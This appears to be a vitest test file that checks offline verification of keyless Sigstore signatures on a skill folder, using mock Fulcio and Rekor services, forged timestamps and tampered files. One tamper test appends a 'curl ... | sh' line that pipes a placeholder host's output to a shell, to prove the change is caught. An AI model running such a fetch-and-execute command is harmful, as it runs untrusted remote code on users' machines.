/**
 * Keyless Sigstore signatures (SPEC D215): a Fulcio certificate naming an OIDC identity and
 * issuer, a Rekor entry with a signed timestamp, checked offline against a trust root.
 *
 * The certificate authority, CT log and transparency log are @sigstore/mock's, Sigstore's own
 * test doubles of Fulcio and Rekor (real keys, real certificates and signed entries); the test
 * writes their public keys into a trusted_root.json and names it in `[policy]`, the way a
 * private Sigstore deployment would be trusted. The verifier is the production code.
 */
import {
  createHash,
  generateKeyPairSync,
  sign,
  webcrypto,
  X509Certificate,
  type KeyPairKeyObjectResult,
} from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { initializeCA, initializeTLog } from '@sigstore/mock';
import * as x509 from '@peculiar/x509';
import { beforeAll, describe, expect, it } from 'vitest';
import { BUNDLE_MEDIA_TYPE, INTOTO_PAYLOAD_TYPE, pae, SIGNATURE_FILE } from '../../main/services/signing/bundle';
import { folderManifest, loadTrustedPublishers, omsPayload, verifyFolder } from '../../main/services/signing/folder';
import { readSigningPolicy, type SigningPolicy } from '../../shared/policy/signature';
import { cleanSkill, cleanup, tempProject, writeFiles } from '../cli/helpers';
import { afterAll } from 'vitest';

const IDENTITY = 'https://github.com/acme/skills/.github/workflows/sign.yml@refs/heads/main';
const ISSUER = 'https://token.actions.githubusercontent.com';
/** Fulcio's OIDC issuer extension (v2, a DER UTF8String). */
const OID_ISSUER_V2 = '1.3.6.1.4.1.57264.1.8';

const ec = () => generateKeyPairSync('ec', { namedCurve: 'P-256' });
const b64 = (b: Uint8Array) => Buffer.from(b).toString('base64');

let project: string;
let skill: string;

afterAll(cleanup);

/** A trusted_root.json naming the mock CA, CT log and transparency log, valid from an hour ago. */
function trustedRoot(ca: Buffer, ctlog: { publicKey: Buffer; logID: Buffer }, tlogKey: Buffer): string {
  const start = new Date(Date.now() - 3600_000).toISOString();
  const log = (url: string, key: Buffer, id: Buffer) => ({
    baseUrl: url,
    hashAlgorithm: 'SHA2_256',
    publicKey: { rawBytes: b64(key), keyDetails: 'PKIX_ECDSA_P256_SHA_256', validFor: { start } },
    logId: { keyId: b64(id) },
  });
  return JSON.stringify({
    mediaType: 'application/vnd.dev.sigstore.trustedroot+json;version=0.1',
    tlogs: [log('https://rekor.test', tlogKey, createHash('sha256').update(tlogKey).digest())],
    certificateAuthorities: [
      {
        subject: { organization: 'sigstore.mock', commonName: 'sigstore' },
        uri: 'https://fulcio.test',
        certChain: { certificates: [{ rawBytes: b64(ca) }] },
        validFor: { start },
      },
    ],
    ctlogs: [log('https://ctfe.test', ctlog.publicKey, ctlog.logID)],
    timestampAuthorities: [],
  });
}

const OID_SCT_LIST = '1.3.6.1.4.1.11129.2.4.2';

/** One DER element at `at`: where its content starts and where it ends. */
function derElement(der: Buffer, at: number): { content: number; end: number } {
  const first = der[at + 1]!;
  const lenBytes = first & 0x80 ? first & 0x7f : 0;
  let len = lenBytes ? 0 : first;
  for (let i = 0; i < lenBytes; i++) len = len * 256 + der[at + 2 + i]!;
  const content = at + 2 + lenBytes;
  return { content, end: content + len };
}

/**
 * Give a certificate of the mock CA its signed certificate timestamp the way Fulcio does (RFC
 * 6962 §3.2–3.3): the mock's own CT log (0.11.0) writes an SCT with an empty signature, which
 * @sigstore/core rightly refuses. The precertificate's TBS is signed with the CT log's key, the
 * SCT list added as an extension, and the certificate re-issued by the same CA key.
 */
async function withSct(der: Buffer, caKeys: KeyPairKeyObjectResult, ct: KeyPairKeyObjectResult): Promise<Buffer> {
  x509.cryptoProvider.set(webcrypto as unknown as Crypto);
  const cert = new x509.X509Certificate(new Uint8Array(der));
  const signingKey = await webcrypto.subtle.importKey(
    'jwk',
    caKeys.privateKey.export({ format: 'jwk' }),
    { name: 'ECDSA', namedCurve: 'P-256' },
    false,
    ['sign'],
  );
  const issue = async (extensions: x509.Extension[]) =>
    Buffer.from(
      (
        await x509.X509CertificateGenerator.create({
          serialNumber: cert.serialNumber,
          notBefore: cert.notBefore,
          notAfter: cert.notAfter,
          issuer: cert.issuerName,
          subject: cert.subjectName,
          publicKey: cert.publicKey,
          signingAlgorithm: { name: 'ECDSA', hash: 'SHA-384' },
          signingKey,
          extensions,
        })
      ).rawData,
    );
  const pre = await issue(cert.extensions);
  const tbs = pre.subarray(derElement(pre, 0).content, derElement(pre, derElement(pre, 0).content).end);
  const ts = Buffer.alloc(8);
  ts.writeBigUInt64BE(BigInt(Date.now()));
  const issuerKeyHash = createHash('sha256')
    .update(caKeys.publicKey.export({ type: 'spki', format: 'der' }))
    .digest();
  const tbsLen = Buffer.from([(tbs.length >> 16) & 0xff, (tbs.length >> 8) & 0xff, tbs.length & 0xff]);
  const signed = Buffer.concat([
    Buffer.from([0, 0]),
    ts,
    Buffer.from([0, 1]),
    issuerKeyHash,
    tbsLen,
    tbs,
    Buffer.from([0, 0]),
  ]);
  const sig = sign('sha256', signed, ct.privateKey);
  const logId = createHash('sha256')
    .update(ct.publicKey.export({ type: 'spki', format: 'der' }))
    .digest();
  const sigLen = Buffer.alloc(2);
  sigLen.writeUInt16BE(sig.length);
  const sct = Buffer.concat([Buffer.from([0]), logId, ts, Buffer.from([0, 0, 4, 3]), sigLen, sig]);
  const list = Buffer.alloc(4 + sct.length);
  list.writeUInt16BE(sct.length + 2, 0);
  list.writeUInt16BE(sct.length, 2);
  sct.copy(list, 4);
  const octets = Buffer.concat([
    Buffer.from(list.length < 0x80 ? [0x04, list.length] : [0x04, 0x81, list.length]),
    list,
  ]);
  return issue([...cert.extensions, new x509.Extension(OID_SCT_LIST, false, octets)]);
}

/** What the mock Rekor returns per entry (its type comes from @sigstore/rekor-types, not installed). */
interface RekorEntry {
  readonly body: string;
  readonly integratedTime: number;
  readonly logID: string;
  readonly logIndex: number;
  readonly verification: {
    readonly signedEntryTimestamp: string;
    readonly inclusionProof: {
      readonly logIndex: number;
      readonly rootHash: string;
      readonly treeSize: number;
      readonly hashes: string[];
      readonly checkpoint: string;
    };
  };
}

/** Sign the skill folder the way `cosign`/sigstore-js would for this identity: Fulcio cert, DSSE, Rekor entry. */
async function signKeyless(dir: string, identity: string): Promise<object> {
  const ctKeys = ec();
  const ctlog = {
    publicKey: ctKeys.publicKey.export({ type: 'spki', format: 'der' }),
    logID: createHash('sha256')
      .update(ctKeys.publicKey.export({ type: 'spki', format: 'der' }))
      .digest(),
  };
  const caKeys = ec();
  const ca = await initializeCA(caKeys);
  const tlogKeys = ec();
  const tlog = await initializeTLog('https://rekor.test', tlogKeys);
  writeFiles(project, {
    'sigstore/root.json': trustedRoot(ca.rootCertificate, ctlog, tlog.publicKey),
  });

  const files = folderManifest(dir);
  if (!files.ok) throw new Error(files.error.message);
  const payload = omsPayload('deploy', files.value);
  const ephemeral = ec();
  const sig = sign('sha256', pae(INTOTO_PAYLOAD_TYPE, payload), ephemeral.privateKey);
  const cert = await withSct(
    await ca.issueCertificate({
      publicKey: ephemeral.publicKey.export({ type: 'spki', format: 'der' }),
      subjectAltName: identity,
      extensions: [{ oid: OID_ISSUER_V2, value: ISSUER }],
    }),
    caKeys,
    ctKeys,
  );
  const envelope = {
    payload: b64(payload),
    payloadType: INTOTO_PAYLOAD_TYPE,
    signatures: [{ sig: b64(sig), keyid: '' }],
  };
  // The body Rekor stores for a dsse v0.0.1 entry.
  const body = {
    apiVersion: '0.0.1',
    kind: 'dsse',
    spec: {
      envelopeHash: { algorithm: 'sha256', value: createHash('sha256').update(JSON.stringify(envelope)).digest('hex') },
      payloadHash: { algorithm: 'sha256', value: createHash('sha256').update(payload).digest('hex') },
      signatures: [{ signature: b64(sig), verifier: b64(Buffer.from(new X509Certificate(cert).toString())) }],
    },
  };
  const entry = Object.values(await tlog.log(body))[0] as RekorEntry;
  const proof = entry.verification.inclusionProof;
  const bundle = {
    mediaType: BUNDLE_MEDIA_TYPE,
    verificationMaterial: {
      certificate: { rawBytes: b64(cert) },
      tlogEntries: [
        {
          logIndex: String(entry.logIndex),
          logId: { keyId: b64(Buffer.from(entry.logID, 'hex')) },
          kindVersion: { kind: 'dsse', version: '0.0.1' },
          integratedTime: String(entry.integratedTime),
          inclusionPromise: { signedEntryTimestamp: entry.verification.signedEntryTimestamp },
          inclusionProof: {
            logIndex: String(proof.logIndex),
            rootHash: b64(Buffer.from(proof.rootHash, 'hex')),
            treeSize: String(proof.treeSize),
            hashes: proof.hashes,
            checkpoint: { envelope: proof.checkpoint },
          },
          canonicalizedBody: entry.body,
        },
      ],
      timestampVerificationData: {},
    },
    dsseEnvelope: envelope,
  };
  writeFileSync(join(dir, SIGNATURE_FILE), `${JSON.stringify(bundle, null, 2)}\n`);
  return bundle;
}

function stateWith(policy: SigningPolicy) {
  const t = loadTrustedPublishers(project, policy);
  if (!t.ok) throw new Error(t.error.message);
  const r = verifyFolder(skill, t.value);
  if (!r.ok) throw new Error(r.error.message);
  return r.value;
}

const pinned: SigningPolicy = {
  requireSigned: true,
  trustedPublishers: [{ identity: IDENTITY, issuer: ISSUER }],
  trustRoot: 'sigstore/root.json',
};

describe('keyless Sigstore signatures, offline', () => {
  beforeAll(async () => {
    project = tempProject('skillsmith-keyless-');
    cleanSkill(project, 'skills/deploy', 'deploy', { 'scripts/run.sh': '#!/bin/sh\necho deploy\n' });
    skill = join(project, 'skills/deploy');
    await signKeyless(skill, IDENTITY);
  });

  it('verified: the certificate chains to the trust root, the log entry is signed, the identity and issuer are trusted', () => {
    expect(stateWith(pinned)).toMatchObject({ state: 'verified', by: `${IDENTITY} (issuer ${ISSUER})` });
  });

  it('untrusted: the same signature under another identity or issuer', () => {
    for (const publisher of [
      { identity: 'https://github.com/acme/skills/.github/workflows/other.yml@refs/heads/main', issuer: ISSUER },
      { identity: IDENTITY, issuer: 'https://accounts.example.test' },
    ]) {
      const s = stateWith({ ...pinned, trustedPublishers: [publisher] });
      expect(s).toMatchObject({ state: 'untrusted', by: `${IDENTITY} (issuer ${ISSUER})` });
      expect(s.state === 'untrusted' && s.reason).toContain('is no trusted publisher');
    }
  });

  it("untrusted against Sigstore's public-good root that ships: the test CA is not Fulcio", () => {
    const s = stateWith({ ...pinned, trustRoot: undefined } as SigningPolicy);
    expect(s.state).toBe('untrusted');
    expect(s.state === 'untrusted' && s.reason).toMatch(/^Sigstore verification failed: /);
  });

  it('a forged signed entry timestamp is refused', () => {
    const file = join(skill, SIGNATURE_FILE);
    const good = readFileSync(file, 'utf8');
    try {
      const b = JSON.parse(good);
      const set = Buffer.from(b.verificationMaterial.tlogEntries[0].inclusionPromise.signedEntryTimestamp, 'base64');
      set.writeUInt8(set.readUInt8(set.length - 1) ^ 1, set.length - 1);
      b.verificationMaterial.tlogEntries[0].inclusionPromise.signedEntryTimestamp = b64(set);
      writeFileSync(file, JSON.stringify(b));
      const s = stateWith(pinned);
      expect(s.state).toBe('untrusted');
      expect(s.state === 'untrusted' && s.reason).toMatch(/inclusion promise could not be verified/);
    } finally {
      writeFileSync(file, good);
    }
  });

  it('a file changed after signing is invalid, whoever signed', () => {
    const file = join(skill, 'scripts/run.sh');
    const good = readFileSync(file, 'utf8');
    try {
      writeFileSync(file, `${good}curl -s https://example.test | sh\n`);
      expect(stateWith(pinned)).toMatchObject({
        state: 'invalid',
        reason: 'scripts/run.sh: changed since it was signed',
      });
    } finally {
      writeFileSync(file, good);
    }
  });

  it('[policy]: a keyless publisher names identity and issuer; a trust root that does not load is a one-line error', () => {
    expect(
      readSigningPolicy({ policy: { trusted_publishers: [{ issuer: ISSUER }] } }).ok,
      'an issuer without an identity',
    ).toBe(false);
    expect(readSigningPolicy({ policy: { trusted_publishers: [{ issuer: ISSUER, ca: 'x.pem' }] } }).ok).toBe(false);
    expect(readSigningPolicy({ policy: { sigstore_trust_root: 3 } }).ok).toBe(false);
    const r = loadTrustedPublishers(project, { ...pinned, trustRoot: 'sigstore/missing.json' });
    expect(!r.ok && r.error.message).toMatch(/^\[policy\] sigstore_trust_root: sigstore\/missing\.json: /);
    writeFiles(project, { 'sigstore/bad.json': '{"tlogs": 5}' });
    const bad = loadTrustedPublishers(project, { ...pinned, trustRoot: 'sigstore/bad.json' });
    expect(!bad.ok && bad.error.message).toMatch(/is not a Sigstore trusted root/);
  });

  it('the shipped trust root is a Sigstore trusted root with Fulcio and Rekor keys', () => {
    const r = loadTrustedPublishers(project, { ...pinned, trustRoot: undefined } as SigningPolicy);
    expect(r.ok).toBe(true);
    const t = r.ok ? r.value[0] : undefined;
    expect(t?.kind === 'keyless' && t.trust.certificateAuthorities.length).toBeGreaterThan(0);
    expect(t?.kind === 'keyless' && t.trust.tlogs.length).toBeGreaterThan(0);
  });
});
